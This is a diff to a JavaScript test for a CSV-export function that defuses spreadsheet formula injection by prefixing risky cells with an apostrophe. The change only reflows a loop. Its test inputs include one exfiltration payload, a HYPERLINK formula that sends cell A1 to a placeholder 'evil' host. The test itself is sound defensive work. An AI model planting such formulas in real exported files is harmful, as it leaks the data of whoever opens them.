@@ -3,7 +3,8 @@ import { csvCell, neutraliseCell } from './cells.js';
 
 describe('export cells', () => {
   it('neutralises text a spreadsheet would run as a formula', () => {
-    for (const s of ['=HYPERLINK("http://evil/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseCell(s)).toBe(`'${s}`);
+    for (const s of ['=HYPERLINK("http://evil/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])
+      expect(neutraliseCell(s)).toBe(`'${s}`);
     expect(neutraliseCell('健身卡无法退费')).toBe('健身卡无法退费');
     expect(neutraliseCell('a=b')).toBe('a=b');
   });
